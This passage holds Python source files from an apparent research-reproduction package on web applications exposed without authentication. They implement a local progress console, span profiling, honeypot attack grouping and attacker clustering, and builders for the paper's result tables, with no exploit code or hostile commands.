handed over by worker threads — plus the parent telemetry handle, so a
scrape never races a shard-local pipeline.  Once the sweep's fold has
run (``finish_sweep``), the parent handle holds everything and becomes
the single source.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from repro.obs.flight import FlightRecorder
from repro.obs.metrics import MetricsRegistry
from repro.obs.telemetry import FUNNEL_METRIC, FUNNEL_STAGES

#: funnel flows served per stage
_FLOWS = ("in", "out", "dropped", "quarantined")

#: snapshot retries when a live structure mutates under iteration
_READ_RETRIES = 8


class ConsoleHub:
    """Thread-safe progress aggregation point for one (or more) sweeps.

    Engines call the ``attach_telemetry`` / ``begin_sweep`` /
    ``note_shard_running`` / ``note_shard_done`` / ``finish_sweep``
    hooks; readers (the HTTP handler, tests) call the view methods.
    All hooks are cheap — a dict update under one lock — so worker
    threads pay nothing measurable for being observable.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._telemetry = None
        #: shard index -> {"planned", "status", "scanned", "wall"}
        self._shards: dict[int, dict] = {}
        #: immutable completed-shard payloads, by index (mid-flight only)
        self._payloads: dict[int, dict] = {}
        self._report = None
        self._done = False

    # -- engine-facing hooks -------------------------------------------------

    def attach_telemetry(self, telemetry) -> None:
        with self._lock:
            self._telemetry = telemetry

    def begin_sweep(self, shard_plan: list[dict]) -> None:
        """A sweep is starting over these planned shards."""
        with self._lock:
            self._shards = {
                entry["index"]: {
                    "planned": entry["addresses"],
                    "status": "planned",
                    "scanned": 0,
                }
                for entry in shard_plan
            }
            self._payloads = {}
            self._report = None
            self._done = False

    def note_shard_running(self, index: int) -> None:
        with self._lock:
            self._shard_entry(index)["status"] = "running"

    def note_shard_done(self, index: int, payload: dict) -> None:
        """One shard finished; ``payload`` is its immutable result."""
        with self._lock:
            entry = self._shard_entry(index)
            entry["status"] = "done"
            entry["scanned"] = payload.get("addresses", 0)
            wall = payload.get("wall")
            if wall is not None and "elapsed" in wall:
                entry["wall"] = round(wall["elapsed"], 6)
            supervisor = payload.get("supervisor")
            if supervisor is not None:
                if supervisor.get("abandoned"):
                    entry["status"] = "abandoned"
                if supervisor.get("restarts"):
                    entry["restarts"] = supervisor["restarts"]
            self._payloads[index] = payload

    def finish_sweep(self, report) -> None:
        """The fold has run; the parent handle now holds everything."""
        with self._lock:
            self._report = report
            self._payloads = {}
            self._done = True

    def _shard_entry(self, index: int) -> dict:
        # A sequential run never calls begin_sweep with shards, and a
        # resumed run may fold shards the plan predates; create entries
        # on demand so hooks never fail.
        return self._shards.setdefault(
            index, {"planned": 0, "status": "planned", "scanned": 0}
        )

    # -- aggregation ---------------------------------------------------------

    def _sources(self) -> tuple[object, list[dict]]:
        with self._lock:
            payloads = [] if self._done else list(self._payloads.values())
            return self._telemetry, payloads

    def _metrics_registry(self) -> MetricsRegistry:
        """Merged registry: parent handle plus unfolded shard payloads."""
        telemetry, payloads = self._sources()
        merged = MetricsRegistry()
        if telemetry is not None:
            merged.absorb(self._registry_snapshot(telemetry))
        for payload in payloads:
            shard = MetricsRegistry()
            shard.restore_state(payload["telemetry"]["metrics"])
            merged.absorb(shard)
        return merged

    @staticmethod
    def _registry_snapshot(telemetry) -> MetricsRegistry:
        """Snapshot a live registry, retrying if a writer lands mid-read."""
        last: RuntimeError | None = None
        for _ in range(_READ_RETRIES):
            try:
                state = telemetry.metrics.snapshot_state()
            except RuntimeError as exc:  # pragma: no cover - timing window
                last = exc
                continue
            registry = MetricsRegistry()
            registry.restore_state(state)
            return registry
        raise last  # pragma: no cover - eight consecutive collisions

    # -- read-side views -----------------------------------------------------

    def metrics_text(self) -> str:
        return self._metrics_registry().to_prometheus()

    def funnel(self) -> dict:
        registry = self._metrics_registry()
        return {
            "stages": {
                stage: {
                    flow: registry.counter_value(
                        FUNNEL_METRIC, stage=stage, flow=flow
                    )
                    for flow in _FLOWS
                }
                for stage in FUNNEL_STAGES
            }
        }

    def quarantine(self) -> dict:
        """The quarantine ledger, merged across shard coverage blocks."""
        with self._lock:
            report = self._report
            payloads = [] if self._done else list(self._payloads.values())
        if report is not None:
            coverage = report.coverage.to_dict()
            return self._quarantine_view([coverage])
        return self._quarantine_view(
            [payload["report"].get("coverage", {}) for payload in payloads]
        )

    @staticmethod
    def _quarantine_view(coverages: list[dict]) -> dict:
        hosts: set[str] = set()
        blocks: set[str] = set()
        counts = {
            "poison_events": 0,
            "stall_events": 0,
            "shard_restarts": 0,
            "shards_abandoned": 0,
            "deadline_hits": 0,
        }
        for coverage in coverages:
            hosts.update(coverage.get("quarantined_hosts", []))
            blocks.update(coverage.get("quarantined_blocks", []))
            for key in counts:
                counts[key] += coverage.get(key, 0)
        return {
            "quarantined_hosts": sorted(hosts),
            "quarantined_blocks": sorted(blocks),
            **counts,
        }

    def shards(self) -> dict:
        with self._lock:
            entries = {
                str(index): dict(self._shards[index])
                for index in sorted(self._shards)
            }
            done = self._done
        statuses = [entry["status"] for entry in entries.values()]
        return {
            "complete": done,
            "total": len(entries),
            "running": statuses.count("running"),
            "done": statuses.count("done") + statuses.count("abandoned"),
            "shards": entries,
        }

    def flight(self) -> dict:
        """The merged flight recorder (slowest probes so far)."""
        telemetry, payloads = self._sources()
        merged = FlightRecorder()
        if telemetry is not None:
            merged.absorb(telemetry.flight)
        for payload in payloads:
            state = payload["telemetry"].get("flight")
            if state is not None:
                shard = FlightRecorder()
                shard.restore_state(state)
                merged.absorb(shard)
        return merged.to_dict()

    def dashboard_html(self) -> str:
        """The plain-HTML view of everything above — no scripts, no CSS
        frameworks, just what a terminal-born dashboard needs."""
        funnel = self.funnel()
        shards = self.shards()
        quarantine = self.quarantine()
        flight = self.flight()
        rows = "".join(
            "<tr><td>{stage}</td><td>{in_:.0f}</td><td>{out:.0f}</td>"
            "<td>{dropped:.0f}</td><td>{quarantined:.0f}</td></tr>".format(
                stage=stage,
                in_=flows["in"],
                out=flows["out"],
                dropped=flows["dropped"],
                quarantined=flows["quarantined"],
            )
            for stage, flows in funnel["stages"].items()
        )
        slowest = "".join(
            "<tr><td>{name}</td><td>{host}</td><td>{duration:.3f}</td>"
            "<td>{exchanges}</td></tr>".format(
                name=record["name"],
                host=record["host"],
                duration=record["duration"],
                exchanges=len(record["exchanges"]),
            )
            for record in flight["records"][:8]
        )
        return (
            "<!DOCTYPE html><html><head><title>repro sweep console</title>"
            "</head><body>"
            "<h1>Sweep console</h1>"
            f"<p>Shards: {shards['done']}/{shards['total']} done, "
            f"{shards['running']} running"
            f"{' — sweep complete' if shards['complete'] else ''}</p>"
            "<h2>Stage funnel (hosts)</h2>"
            "<table border=1><tr><th>stage</th><th>in</th><th>out</th>"
            f"<th>dropped</th><th>quarantined</th></tr>{rows}</table>"
            "<h2>Quarantine</h2>"
            f"<p>{len(quarantine['quarantined_hosts'])} hosts, "
            f"{len(quarantine['quarantined_blocks'])} blocks quarantined; "
            f"{quarantine['shard_restarts']} shard restarts, "
            f"{quarantine['shards_abandoned']} abandoned</p>"
            "<h2>Slowest probes</h2>"
            "<table border=1><tr><th>probe</th><th>host</th>"
            f"<th>sim seconds</th><th>exchanges</th></tr>{slowest}</table>"
            "<p>Raw views: <a href='/metrics'>/metrics</a> "
            "<a href='/funnel'>/funnel</a> "
            "<a href='/quarantine'>/quarantine</a> "
            "<a href='/shards'>/shards</a> "
            "<a href='/flight'>/flight</a></p>"
            "</body></html>"
        )


class _ConsoleHTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    #: the hub handlers read from (set by ConsoleServer)
    hub: ConsoleHub | None = None


class _ConsoleHandler(BaseHTTPRequestHandler):
    """Routes GETs to the hub's views; everything else is a 404."""

    def do_GET(self) -> None:  # noqa: N802 - http.server API
        hub = self.server.hub
        try:
            if self.path == "/metrics":
                self._reply(hub.metrics_text(), "text/plain; version=0.0.4")
            elif self.path == "/funnel":
                self._reply_json(hub.funnel())
            elif self.path == "/quarantine":
                self._reply_json(hub.quarantine())
            elif self.path == "/shards":
                self._reply_json(hub.shards())
            elif self.path == "/flight":
                self._reply_json(hub.flight())
            elif self.path == "/":
                self._reply(hub.dashboard_html(), "text/html")
            else:
                self.send_error(404, "unknown console path")
        except Exception as exc:  # pragma: no cover - defensive
            self.send_error(500, f"{type(exc).__name__}: {exc}")

    def _reply_json(self, payload: dict) -> None:
        self._reply(
            json.dumps(payload, sort_keys=True, indent=2) + "\n",
            "application/json",
        )

    def _reply(self, body: str, content_type: str) -> None:
        data = body.encode()
        self.send_response(200)
        self.send_header("content-type", content_type)
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: object) -> None:
        """Silence per-request stderr lines (the CLI owns stdout/stderr)."""


class ConsoleServer:
    """The operations endpoint: a daemon-thread HTTP server over a hub.

    Binds loopback only — the console is an operator's window, not a
    public service.  ``port=0`` asks the OS for an ephemeral port (the
    integration tests' mode); the bound port is available as ``.port``.
    """

    def __init__(
        self, hub: ConsoleHub, port: int = 0, host: str = "127.0.0.1"
    ) -> None:
        self.hub = hub
        self._server = _ConsoleHTTPServer((host, port), _ConsoleHandler)
        self._server.hub = hub
        self._thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        return self._server.server_address[1]

    @property
    def url(self) -> str:
        host, port = self._server.server_address[:2]
        return f"http://{host}:{port}"

    def start(self) -> "ConsoleServer":
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            name="repro-console",
            daemon=True,
        )
        self._thread.start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)
            self._thread = None

    def __enter__(self) -> "ConsoleServer":
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()
