"""Span profiling: flamegraph-style rollups with dual time accounting.

The :class:`~repro.obs.trace.Tracer` records *what* happened; this module
answers *where the time went*.  A rollup aggregates finished spans by
their **path** — the span names from the root down, joined with ``/``
(``sweep/batch/stage:tsunami/probe:jenkins``) — and reports, per path:

* **count** — spans completing on that path;
* **total** — summed span duration (a parent's total includes its
  children);
* **self** — total minus the direct children's totals: the time spent
  *on* that path rather than *under* it.  Self times across all paths
  sum exactly to the root totals, so attribution is complete by
  construction.

Two clocks, two books — the repo's central tension is that its output
must be deterministic while its performance is not:

* **SimClock accounting** is canonical.  Durations come from the shard
  clocks, so the rollup of a sweep is byte-identical for every worker
  count and across kill-and-resume — it can be committed, diffed, and
  CI-gated like any other artifact;
* **wall accounting** is diagnostic.  When profiling is armed
  (``ScanPipeline.profile=True``) every span also records real
  ``perf_counter`` stamps, rolled up *separately* per shard and folded
  into a :class:`WallProfile` that never touches the canonical report or
  telemetry export.  This is the view that can say *why* ``workers=8``
  is slower than ``workers=1`` when the simulated books say the two runs
  are identical.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Iterable

from repro.obs.trace import Span
from repro.util.tables import Table


def wall_now() -> float:
    """The one sanctioned wall-clock read in the package.

    Everything deterministic charges the SimClock; wall-time profiling is
    the explicit exception (baselined under DET001) because attributing a
    real regression needs real seconds.  Callers must keep the values out
    of canonical reports and telemetry exports.
    """
    return time.perf_counter()


@dataclass
class PathStats:
    """Aggregate timings for one span path."""

    count: int = 0
    total: float = 0.0
    self_time: float = 0.0
    wall_total: float = 0.0
    wall_self: float = 0.0

    def to_dict(self) -> dict:
        return {
            "count": self.count,
            "total": round(self.total, 9),
            "self": round(self.self_time, 9),
        }


class ProfileRollup:
    """Per-path aggregation of a finished span record."""

    def __init__(self) -> None:
        self.paths: dict[str, PathStats] = {}
        #: summed duration of root spans (per-shard ``sweep`` spans all
        #: aggregate here, so this is the sweep's total SimClock cost)
        self.root_total: float = 0.0
        #: root time not covered by any child span
        self.root_self: float = 0.0
        self.has_wall: bool = False

    @classmethod
    def from_spans(cls, spans: Iterable[Span]) -> "ProfileRollup":
        """Roll up finished spans (open spans must be excluded upstream).

        Span ids only need to be consistent *within* the record handed
        in; absorbed shard records qualify because the tracer rebases ids
        during the fold.
        """
        rollup = cls()
        closed = [s for s in spans if s.end is not None]
        by_id = {s.span_id: s for s in closed}
        child_total: dict[int, float] = {}
        for span in closed:
            if span.parent_id in by_id:
                child_total[span.parent_id] = (
                    child_total.get(span.parent_id, 0.0) + span.duration
                )

        path_cache: dict[int, str] = {}

        def path_of(span: Span) -> str:
            cached = path_cache.get(span.span_id)
            if cached is None:
                parent = by_id.get(span.parent_id)
                cached = (
                    span.name if parent is None
                    else f"{path_of(parent)}/{span.name}"
                )
                path_cache[span.span_id] = cached
            return cached

        for span in closed:
            stats = rollup.paths.setdefault(path_of(span), PathStats())
            self_time = span.duration - child_total.get(span.span_id, 0.0)
            stats.count += 1
            stats.total += span.duration
            stats.self_time += self_time
            if span.wall_start is not None and span.wall_end is not None:
                rollup.has_wall = True
                wall = span.wall_end - span.wall_start
                stats.wall_total += wall
                stats.wall_self += wall
            if span.parent_id not in by_id:
                rollup.root_total += span.duration
                rollup.root_self += self_time
        if rollup.has_wall:
            rollup._subtract_child_wall(by_id, path_cache)
        return rollup

    def _subtract_child_wall(
        self, by_id: dict[int, Span], path_cache: dict[int, str]
    ) -> None:
        for span in by_id.values():
            parent = by_id.get(span.parent_id)
            if (
                parent is None
                or span.wall_start is None or span.wall_end is None
                or parent.wall_start is None or parent.wall_end is None
            ):
                continue
            stats = self.paths[path_cache[parent.span_id]]
            stats.wall_self -= span.wall_end - span.wall_start

    # -- queries -------------------------------------------------------------

    def total(self, path: str) -> float:
        stats = self.paths.get(path)
        return stats.total if stats is not None else 0.0

    def self_time(self, path: str) -> float:
        stats = self.paths.get(path)
        return stats.self_time if stats is not None else 0.0

    def attributed_fraction(self) -> float:
        """Share of root (sweep) time attributed to descendant paths.

        The remainder is root self time — orchestration between spans.
        A record with zero simulated duration attributes trivially.
        """
        if self.root_total == 0.0:
            return 1.0
        return 1.0 - self.root_self / self.root_total

    def by_stage(self) -> dict[str, PathStats]:
        """Aggregate paths by their leaf span name (the stage view)."""
        stages: dict[str, PathStats] = {}
        for path in sorted(self.paths):
            stats = self.paths[path]
            leaf = stages.setdefault(path.rsplit("/", 1)[-1], PathStats())
            leaf.count += stats.count
            leaf.total += stats.total
            leaf.self_time += stats.self_time
            leaf.wall_total += stats.wall_total
            leaf.wall_self += stats.wall_self
        return stages

    # -- exports -------------------------------------------------------------

    def to_dict(self) -> dict:
        """Canonical (SimClock-only) rollup — deterministic and diffable."""
        return {
            "root_total": round(self.root_total, 9),
            "attributed_fraction": round(self.attributed_fraction(), 6),
            "paths": {
                path: self.paths[path].to_dict() for path in sorted(self.paths)
            },
        }

    def wall_to_dict(self) -> dict[str, dict]:
        """The diagnostic wall-time book; empty without profiling armed."""
        if not self.has_wall:
            return {}
        return {
            path: {
                "total": round(self.paths[path].wall_total, 6),
                "self": round(self.paths[path].wall_self, 6),
            }
            for path in sorted(self.paths)
            if self.paths[path].wall_total
        }

    def table(self, title: str = "Span profile (SimClock seconds)") -> Table:
        table = Table(title, ("path", "count", "total", "self"))
        for path in sorted(self.paths):
            stats = self.paths[path]
            table.add_row(
                path, stats.count,
                f"{stats.total:.3f}", f"{stats.self_time:.3f}",
            )
        return table

    def render(self) -> str:
        return self.table().render()


@dataclass
class WallProfile:
    """Folded wall-time attribution for one (parallel or sequential) run.

    Filled by the engines on the main thread, from per-shard measurements
    taken in the workers; the numbers are real seconds and therefore
    *diagnostic only* — they never feed the canonical report, telemetry
    export, or checkpoint-equivalence guarantees.
    """

    #: wall seconds per shard index (whole-shard execution, setup included)
    shards: dict[int, float] = field(default_factory=dict)
    #: self wall seconds per span path, summed across shards
    path_self: dict[str, float] = field(default_factory=dict)
    #: total wall seconds per span path, summed across shards
    path_total: dict[str, float] = field(default_factory=dict)

    @property
    def armed(self) -> bool:
        return bool(self.shards or self.path_self)

    def note_shard(self, index: int, wall: dict) -> None:
        """Fold one shard payload's ``wall`` section (main thread only)."""
        if "elapsed" in wall:
            self.shards[index] = self.shards.get(index, 0.0) + wall["elapsed"]
        for path, timings in wall.get("paths", {}).items():
            self.path_self[path] = (
                self.path_self.get(path, 0.0) + timings["self"]
            )
            self.path_total[path] = (
                self.path_total.get(path, 0.0) + timings["total"]
            )

    def note_rollup(self, rollup: ProfileRollup) -> None:
        """Fold a sequential run's own wall-annotated rollup."""
        for path, timings in rollup.wall_to_dict().items():
            self.path_self[path] = self.path_self.get(path, 0.0) + timings["self"]
            self.path_total[path] = (
                self.path_total.get(path, 0.0) + timings["total"]
            )

    def elapsed(self) -> float:
        """Summed shard wall seconds (CPU-time-like under threading)."""
        return sum(self.shards.values())

    def dominant_path(self) -> str | None:
        """The path with the most self wall time — where a regression lives."""
        if not self.path_self:
            return None
        return max(sorted(self.path_self), key=lambda p: self.path_self[p])

    def shard_summary(self, top: int = 5) -> dict:
        """Distribution of per-shard wall times plus the slowest ``top``.

        A 100M-address sweep shards into hundreds of /24 groups; dumping
        every shard's wall time made the bench file scale with the frame.
        The distribution plus the worst offenders is what a regression
        hunt actually reads.
        """
        if not self.shards:
            return {"count": 0, "top": {}}
        walls = sorted(self.shards.values())
        count = len(walls)
        slowest = sorted(
            sorted(self.shards), key=lambda index: -self.shards[index]
        )[:top]
        return {
            "count": count,
            "min": round(walls[0], 6),
            "median": round(walls[count // 2], 6),
            "p95": round(walls[min(count - 1, int(count * 0.95))], 6),
            "max": round(walls[-1], 6),
            "top": {
                str(index): round(self.shards[index], 6) for index in slowest
            },
        }

    def to_dict(self, top: int | None = None) -> dict:
        ranked = sorted(
            sorted(self.path_self),
            key=lambda p: -self.path_self[p],
        )
        if top is not None:
            ranked = ranked[:top]
        return {
            "elapsed": round(self.elapsed(), 6),
            "shards": self.shard_summary(),
            "dominant_path": self.dominant_path(),
            "paths": {
                path: {
                    "self": round(self.path_self[path], 6),
                    "total": round(self.path_total.get(path, 0.0), 6),
                }
                for path in ranked
            },
        }
