"""Attack grouping and attacker clustering (RQ4-RQ6).

Definitions, straight from the paper:

* an **attack** groups all commands executed from the same source IP on
  the same honeypot within 15 minutes;
* a **unique attack** is an attack whose payload was not seen on that
  honeypot before (repeated payloads from known IPs are "repeats");
* an **attacker** groups attacks "by payloads and source IP addresses" —
  we realise this as connected components of the IP↔payload bipartite
  graph (two IPs using the same payload variant are the same actor; one
  IP using several payloads links them all), the automatic version of
  the paper's semi-automatic procedure.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import networkx as nx

from repro.honeypot.monitor import AuditEvent
from repro.util.clock import MINUTE

ATTACK_WINDOW = 15 * MINUTE


@dataclass
class Attack:
    """One grouped attack."""

    honeypot: str
    source_ip: int          # IPv4 integer value
    start: float
    end: float
    commands: list[str] = field(default_factory=list)
    fingerprints: set[int] = field(default_factory=set)

    @property
    def primary_fingerprint(self) -> int:
        return min(self.fingerprints)

    @property
    def duration(self) -> float:
        return self.end - self.start


def group_attacks(
    events: list[AuditEvent], window: float = ATTACK_WINDOW
) -> list[Attack]:
    """Merge command executions into attacks per the 15-minute rule."""
    by_key: dict[tuple[str, int], list[AuditEvent]] = {}
    for event in events:
        by_key.setdefault((event.honeypot, event.source_ip.value), []).append(event)

    attacks: list[Attack] = []
    for (honeypot, ip_value), stream in by_key.items():
        stream.sort(key=lambda e: e.timestamp)
        current: Attack | None = None
        for event in stream:
            if current is None or event.timestamp - current.end > window:
                current = Attack(honeypot, ip_value, event.timestamp, event.timestamp)
                attacks.append(current)
            current.end = event.timestamp
            current.commands.append(event.command)
            current.fingerprints.add(event.payload_fingerprint)
    attacks.sort(key=lambda a: a.start)
    return attacks


def unique_attacks(attacks: list[Attack]) -> list[Attack]:
    """First attack per (honeypot, payload fingerprint) — the 'new' stars
    in Figure 3.  Attacks reusing any already-seen payload are repeats."""
    seen: set[tuple[str, int]] = set()
    out = []
    for attack in sorted(attacks, key=lambda a: a.start):
        keys = {(attack.honeypot, fp) for fp in attack.fingerprints}
        if keys & seen:
            continue
        seen.update(keys)
        out.append(attack)
    return out


def attacks_per_app(attacks: list[Attack]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for attack in attacks:
        counts[attack.honeypot] = counts.get(attack.honeypot, 0) + 1
    return counts


def unique_ips_per_app(attacks: list[Attack]) -> dict[str, int]:
    ips: dict[str, set[int]] = {}
    for attack in attacks:
        ips.setdefault(attack.honeypot, set()).add(attack.source_ip)
    return {slug: len(values) for slug, values in ips.items()}


@dataclass
class AttackerCluster:
    """One inferred attacker: the IPs and payloads that travel together."""

    label: str
    ips: set[int]
    fingerprints: set[int]
    honeypots: set[str]
    attack_count: int

    @property
    def is_multi_app(self) -> bool:
        return len(self.honeypots) >= 2


def cluster_attackers(attacks: list[Attack]) -> list[AttackerCluster]:
    """Group attacks into attackers via the IP↔payload bipartite graph."""
    graph = nx.Graph()
    for attack in attacks:
        ip_node = ("ip", attack.source_ip)
        graph.add_node(ip_node)
        for fingerprint in attack.fingerprints:
            payload_node = ("payload", fingerprint)
            graph.add_edge(ip_node, payload_node)

    clusters: list[AttackerCluster] = []
    for index, component in enumerate(nx.connected_components(graph)):
        ips = {value for kind, value in component if kind == "ip"}
        fingerprints = {value for kind, value in component if kind == "payload"}
        member_attacks = [
            a for a in attacks
            if a.source_ip in ips and a.fingerprints & fingerprints
        ]
        clusters.append(
            AttackerCluster(
                label=f"cluster-{index}",
                ips=ips,
                fingerprints=fingerprints,
                honeypots={a.honeypot for a in member_attacks},
                attack_count=len(member_attacks),
            )
        )
    clusters.sort(key=lambda c: -c.attack_count)
    for rank, cluster in enumerate(clusters, start=1):
        cluster.label = f"attacker-{rank:02d}"
    return clusters


def top_attacker_share(clusters: list[AttackerCluster], top: int) -> float:
    """Fraction of all attacks caused by the ``top`` busiest attackers."""
    total = sum(c.attack_count for c in clusters)
    if total == 0:
        return 0.0
    busiest = sorted(clusters, key=lambda c: -c.attack_count)[:top]
    return sum(c.attack_count for c in busiest) / total


@dataclass(frozen=True)
class GapStats:
    """Table 6 row: time-to-compromise statistics for one application."""

    first: float
    average_gap: float
    unique_shortest: float
    unique_longest: float
    unique_average: float


def gap_statistics(attacks: list[Attack], honeypot: str) -> GapStats | None:
    """Timing stats for one honeypot, in seconds."""
    own = sorted((a for a in attacks if a.honeypot == honeypot), key=lambda a: a.start)
    if not own:
        return None
    first = own[0].start
    gaps = [b.start - a.start for a, b in zip(own, own[1:])]
    average = sum(gaps) / len(gaps) if gaps else first

    uniq = unique_attacks(own)
    unique_gaps = [b.start - a.start for a, b in zip(uniq, uniq[1:])]
    if unique_gaps:
        shortest, longest = min(unique_gaps), max(unique_gaps)
        unique_average = sum(unique_gaps) / len(unique_gaps)
    else:
        shortest = longest = unique_average = uniq[0].start
    return GapStats(first, average, shortest, longest, unique_average)
