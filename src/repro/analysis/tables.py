"""Builders for the paper's Tables 1-9.

Each function returns a :class:`repro.util.tables.Table` whose rows have
the same columns (and, where the simulation is calibrated, the same
shape) as the corresponding table in the paper.  Internet-scale counts
use the census's Horvitz-Thompson weights: a host generated at sampling
rate *r* stands for ``1/r`` real hosts.
"""

from __future__ import annotations

from collections import Counter

from repro.analysis.attacks import (
    Attack,
    attacks_per_app,
    gap_statistics,
    unique_attacks,
    unique_ips_per_app,
)
from repro.apps.catalog import all_apps, app_by_slug, in_scope_apps
from repro.core.pipeline import ScanReport
from repro.net.geo import GeoDatabase
from repro.net.ipv4 import IPv4Address
from repro.net.population import Census
from repro.util.clock import HOUR
from repro.util.tables import Table


def table1() -> Table:
    """Table 1: the manual investigation of 25 applications."""
    table = Table(
        "Table 1: investigated applications (attack vector, defaults, warnings)",
        ("Type", "App", "Stars", "Vuln", "Default MAV", "Warn"),
    )
    for spec in all_apps():
        table.add_row(
            spec.category.short,
            spec.name,
            f"{spec.github_stars_k}k",
            spec.vuln_kind.value,
            spec.default_mav_cell(),
            spec.warn_cell(),
        )
    return table


def _weighted_port_counts(
    counts_by_ip: dict[int, tuple[int, ...]], census: Census
) -> dict[int, float]:
    out: dict[int, float] = {}
    for ip_value, ports in counts_by_ip.items():
        weight = census.weight_of(IPv4Address(ip_value))
        for port in ports:
            out[port] = out.get(port, 0.0) + weight
    return out


def table2(report: ScanReport, census: Census, ports: tuple[int, ...]) -> Table:
    """Table 2: open ports and HTTP(S) responses (Internet-scale estimates).

    Hosts with *every* scanned port open are excluded, like the paper's
    3.0M always-open middleboxes which "distorted the results".
    """
    all_ports = set(ports)
    filtered = {
        ip: open_ports
        for ip, open_ports in report.port_scan.open_ports.items()
        if set(open_ports) != all_ports
    }
    open_estimates = _weighted_port_counts(filtered, census)

    # Response counts are per (port, scheme); scale each responding host
    # by its weight.  The prefilter stats count responses, not hosts, but
    # one host answers each (port, scheme) at most once in our pipeline.
    table = Table(
        "Table 2: open ports and HTTP(S) responses (estimated, full IPv4)",
        ("Port", "# Open", "# HTTP", "# HTTPS"),
    )
    # Scale raw response tallies by the mean stratum weight of that port's
    # responding hosts — we approximate with the open-port weight ratio.
    totals = [0.0, 0.0, 0.0]
    for port in ports:
        open_est = open_estimates.get(port, 0.0)
        raw_open = sum(1 for p in filtered.values() if port in p)
        scale = (open_est / raw_open) if raw_open else 0.0
        http_est = report.http_responses.get(port, 0) * scale
        https_est = report.https_responses.get(port, 0) * scale
        table.add_row(port, int(open_est), int(http_est), int(https_est))
        totals[0] += open_est
        totals[1] += http_est
        totals[2] += https_est
    table.add_row("Total", int(totals[0]), int(totals[1]), int(totals[2]))
    return table


def table3(report: ScanReport, census: Census) -> Table:
    """Table 3: AWE prevalence and MAV counts per application."""
    hosts_weighted: dict[str, float] = {}
    mav_counts: dict[str, int] = {}
    for finding in report.findings.values():
        weight = census.weight_of(finding.ip)
        for slug, observation in finding.observations.items():
            hosts_weighted[slug] = hosts_weighted.get(slug, 0.0) + weight
            if observation.vulnerable:
                mav_counts[slug] = mav_counts.get(slug, 0) + 1

    in_scope = [spec.slug for spec in in_scope_apps()]
    total_hosts = sum(hosts_weighted.get(slug, 0.0) for slug in in_scope)
    table = Table(
        "Table 3: AWE prevalence and MAVs on the Internet (estimated hosts)",
        ("Type", "App", "# Hosts", "Share", "# MAVs", "MAV %", "Default"),
    )
    for spec in in_scope_apps():
        hosts = hosts_weighted.get(spec.slug, 0.0)
        mavs = mav_counts.get(spec.slug, 0)
        share = 100.0 * hosts / total_hosts if total_hosts else 0.0
        mav_pct = 100.0 * mavs / hosts if hosts else 0.0
        table.add_row(
            spec.category.short,
            spec.name,
            int(hosts),
            f"{share:.2f}%",
            mavs,
            f"{mav_pct:.1f}%",
            spec.posture.symbol,
        )
    table.add_row(
        "", "Total", int(total_hosts), "100%",
        sum(mav_counts.get(s, 0) for s in in_scope), "", "",
    )
    return table


def table4(vulnerable_ips: list[IPv4Address], geo: GeoDatabase) -> Table:
    """Table 4: where the vulnerable hosts live (countries and ASes)."""
    countries: Counter[str] = Counter()
    ases: Counter[tuple[str, str]] = Counter()
    hosting = 0
    for ip in vulnerable_ips:
        metadata = geo.lookup(ip)
        countries[metadata.country] += 1
        ases[(metadata.asn, metadata.provider)] += 1
        if metadata.is_hosting:
            hosting += 1

    table = Table(
        "Table 4: top countries and ASes hosting vulnerable applications",
        ("Country", "Hosts", "AS", "Provider", "AS Hosts"),
    )
    top_countries = countries.most_common(5)
    top_ases = ases.most_common(5)
    for index in range(5):
        country, c_count = top_countries[index] if index < len(top_countries) else ("", "")
        if index < len(top_ases):
            (asn, provider), a_count = top_ases[index]
        else:
            asn = provider = a_count = ""
        table.add_row(country, c_count, asn, provider, a_count)
    hosting_share = 100.0 * hosting / len(vulnerable_ips) if vulnerable_ips else 0.0
    table.add_row("(hosting networks)", f"{hosting_share:.0f}%", "", "", "")
    return table


def table5(attacks: list[Attack]) -> Table:
    """Table 5: attacks per application."""
    per_app = attacks_per_app(attacks)
    uniq = attacks_per_app(unique_attacks(attacks))
    ips = unique_ips_per_app(attacks)
    table = Table(
        "Table 5: attacks observed on the honeypots",
        ("Type", "App", "# Attacks", "# Uniq. Attacks", "# Uniq. IPs"),
    )
    total_ips: set[int] = set()
    for attack in attacks:
        total_ips.add(attack.source_ip)
    ordered = [
        spec for spec in in_scope_apps() if spec.slug in per_app
    ]
    for spec in ordered:
        table.add_row(
            spec.category.short,
            spec.name,
            per_app[spec.slug],
            uniq.get(spec.slug, 0),
            ips.get(spec.slug, 0),
        )
    total_unique = len(unique_attacks(attacks))
    table.add_row("", "Total", len(attacks), total_unique, len(total_ips))
    return table


def table6(attacks: list[Attack]) -> Table:
    """Table 6: time until compromise, in hours."""
    table = Table(
        "Table 6: time until compromise (hours)",
        ("Application", "First", "Average", "Uniq shortest", "Uniq longest",
         "Uniq average"),
    )
    for slug in sorted({a.honeypot for a in attacks}):
        stats = gap_statistics(attacks, slug)
        if stats is None:
            continue
        spec = app_by_slug(slug)
        table.add_row(
            spec.name,
            round(stats.first / HOUR, 1),
            round(stats.average_gap / HOUR, 1),
            round(stats.unique_shortest / HOUR, 1),
            round(stats.unique_longest / HOUR, 1),
            round(stats.unique_average / HOUR, 1),
        )
    return table


def table7(attacks: list[Attack], geo: GeoDatabase) -> Table:
    """Table 7: attack origin countries with AS diversity."""
    country_attacks: Counter[str] = Counter()
    country_ases: dict[str, set[str]] = {}
    for attack in attacks:
        metadata = geo.lookup(IPv4Address(attack.source_ip))
        country_attacks[metadata.country] += 1
        country_ases.setdefault(metadata.country, set()).add(metadata.asn)
    table = Table(
        "Table 7: top attack-origin countries",
        ("Country", "# Attacks", "# AS"),
    )
    for country, count in country_attacks.most_common(10):
        table.add_row(country, count, len(country_ases[country]))
    return table


def table8(attacks: list[Attack], geo: GeoDatabase) -> Table:
    """Table 8: attack origin ASes with country diversity."""
    as_attacks: Counter[tuple[str, str]] = Counter()
    as_countries: dict[str, set[str]] = {}
    for attack in attacks:
